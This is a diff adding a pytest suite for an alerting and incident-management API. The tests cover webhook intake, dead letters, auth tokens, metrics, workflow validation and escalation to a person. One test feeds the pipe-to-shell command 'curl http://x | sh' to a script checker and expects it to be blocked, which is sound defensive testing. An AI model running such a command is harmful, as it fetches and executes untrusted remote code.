@@ -1,0 +1,142 @@
+"""The API on a real runtime: bad input is a problem with a stable code, and nothing is half stored."""
+
+import json
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from bcce.api.app import create_app
+from bcce.runtime import Settings, open_runtime
+
+FIRING = {
+    "version": "4",
+    "status": "firing",
+    "alerts": [{"status": "firing", "labels": {"alertname": "A"}, "startsAt": "2026-01-01T00:00:00Z", "endsAt": "0001-01-01T00:00:00Z"}],
+}
+
+
+@pytest.fixture
+async def client(tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
+    settings = Settings.model_validate({"alerts": {"max_body_bytes": 2048}})
+    async with open_runtime(settings, home=tmp_path) as runtime:
+        token = (tmp_path / "admin.token").read_text().strip()
+        transport = httpx.ASGITransport(create_app(runtime))
+        async with httpx.AsyncClient(transport=transport, base_url="http://test", headers={"Authorization": f"Bearer {token}"}) as made:
+            yield made
+
+
+def problem(response: httpx.Response) -> tuple[int, str]:
+    assert response.headers["content-type"] == "application/problem+json"
+    assert response.json()["type"] == f"urn:bcce:problem:{response.json()['code']}"
+    return response.status_code, response.json()["code"]
+
+
+async def test_an_alert_is_taken_with_202_and_is_there(client: httpx.AsyncClient) -> None:
+    answer = await client.post("/api/v1/webhooks/alertmanager", json=FIRING)
+
+    assert answer.status_code == 202
+    listed = (await client.get("/api/v1/alerts")).json()["items"]
+    assert [item["id"] for item in listed] == answer.json()["alertIds"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"",
+        b"{",
+        b"[]",
+        b"null",
+        b'{"version": "4"}',
+        b'{"version": "4", "alerts": [1]}',
+        b'{"version":"4","alerts":[{"status":"x","labels":{}}]}',
+        b"\xff\xfe",
+    ],
+)
+async def test_a_body_that_cannot_be_read_is_kept_as_a_dead_letter(client: httpx.AsyncClient, body: bytes) -> None:
+    answer = await client.post("/api/v1/webhooks/alertmanager", content=body)
+
+    assert problem(answer) == (400, "unparsable-delivery")
+    kept = (await client.get(f"/api/v1/dead-letters/{answer.json()['deadLetterId']}")).json()
+    assert kept["bytes"] == len(body)
+    assert (await client.get("/api/v1/alerts")).json()["items"] == []
+
+
+async def test_a_body_over_the_limit_is_refused_and_counted(client: httpx.AsyncClient) -> None:
+    assert problem(await client.post("/api/v1/webhooks/alertmanager", content=b"x" * 4096)) == (413, "too-large")
+    assert 'bcce_webhooks_refused_total{reason="too-large"} 1.0' in (await client.get("/metrics")).text
+
+
+async def test_unknown_things_and_wrong_types_are_problems(client: httpx.AsyncClient) -> None:
+    assert problem(await client.post("/api/v1/webhooks/nagios", json=FIRING)) == (404, "unknown-provider")
+    assert problem(await client.get("/api/v1/incidents/inc_nobody")) == (404, "unknown-incident")
+    assert problem(await client.get("/nowhere")) == (404, "not-found")
+    assert problem(await client.get("/api/v1/alerts", params={"limit": "many"})) == (400, "invalid-input")
+    assert problem(await client.post("/api/v1/tokens", json={"nmae": "x"})) == (400, "invalid-input")
+    assert problem(await client.get("/api/v1/incidents", params={"state": "asleep"})) == (400, "invalid-input")
+
+
+async def test_without_a_token_nothing_is_told(client: httpx.AsyncClient) -> None:
+    client.headers.pop("Authorization")
+
+    for path in ("/api/v1/alerts", "/api/v1/incidents", "/metrics", "/api/v1/audit"):
+        assert problem(await client.get(path)) == (401, "unauthenticated")
+    assert problem(await client.post("/api/v1/webhooks/alertmanager", json=FIRING)) == (401, "unauthenticated")
+    assert (await client.get("/health/live")).json() == {"status": "ok"}
+
+
+async def test_a_source_token_sends_for_its_source_and_does_nothing_else(client: httpx.AsyncClient) -> None:
+    made = (await client.post("/api/v1/tokens", json={"provider": "alertmanager", "source": "prod"})).json()
+    client.headers["Authorization"] = f"Bearer {made['token']}"
+
+    assert (await client.post("/api/v1/webhooks/alertmanager/prod", json=FIRING)).status_code == 202
+    assert problem(await client.post("/api/v1/webhooks/alertmanager/other", json=FIRING)) == (403, "forbidden")
+    assert problem(await client.get("/api/v1/alerts")) == (403, "forbidden")
+
+
+async def test_ready_metrics_events_and_audit(client: httpx.AsyncClient) -> None:
+    await client.post("/api/v1/webhooks/alertmanager", json=FIRING)
+
+    assert (await client.get("/health/ready")).json() == {"status": "ok", "checks": {"database": "pass", "pipeline": "pass"}}
+    events: list[dict[str, Any]] = (await client.get("/api/v1/events")).json()["items"]
+    assert [event["position"] for event in events] == list(range(1, len(events) + 1))
+    assert events[0]["type"] == "alert.received"
+    assert (await client.get("/api/v1/audit")).json()["ok"] is True
+
+
+async def test_a_script_is_judged_and_a_workflow_checked(client: httpx.AsyncClient) -> None:
+    judged = (await client.post("/api/v1/scripts/check", json={"script": "curl http://x | sh"})).json()
+    checked = (await client.post("/api/v1/workflows/validate", json={"text": "name: x\nsteps:\n  - {id: a, type: nope}\n"})).json()
+
+    assert judged["verdict"] == "block"
+    assert (checked["valid"], checked["findings"][0]["line"]) == (False, 3)
+    assert [item["name"] for item in (await client.get("/api/v1/workflows")).json()["items"]] == ["remediate"]
+
+
+async def test_an_incident_without_an_sop_goes_to_a_person(client: httpx.AsyncClient) -> None:
+    await client.post("/api/v1/webhooks/alertmanager", json=FIRING)
+    for _ in range(3000):
+        found = (await client.get("/api/v1/incidents", params={"state": "escalated"})).json()["items"]
+        if found:
+            break
+
+    view = (await client.get(f"/api/v1/incidents/{found[0]['id']}")).json()
+    assert view["summary"] == "no SOP fits the alert 'A'"
+    assert problem(await client.post(f"/api/v1/incidents/{view['id']}/approve", json={"digest": "x"})) == (409, "nothing-to-decide")
+    assert json.dumps(view)
+
+
+async def test_a_method_that_is_not_there_says_so_and_which_are(client: httpx.AsyncClient) -> None:
+    answer = await client.get("/api/v1/webhooks/alertmanager/prod")
+
+    assert (answer.status_code, answer.json()["status"], answer.json()["code"]) == (405, 405, "method-not-allowed")
+    assert answer.headers["allow"] == "POST"
+
+
+async def test_a_body_that_is_no_json_says_how_to_send_it(client: httpx.AsyncClient) -> None:
+    answer = await client.post("/api/v1/scripts/check", content=b'{"script": "ls"}', headers={"Content-Type": "text/plain"})
+
+    assert (answer.status_code, answer.json()["code"]) == (400, "invalid-input")
+    assert "application/json" in answer.json()["hint"]
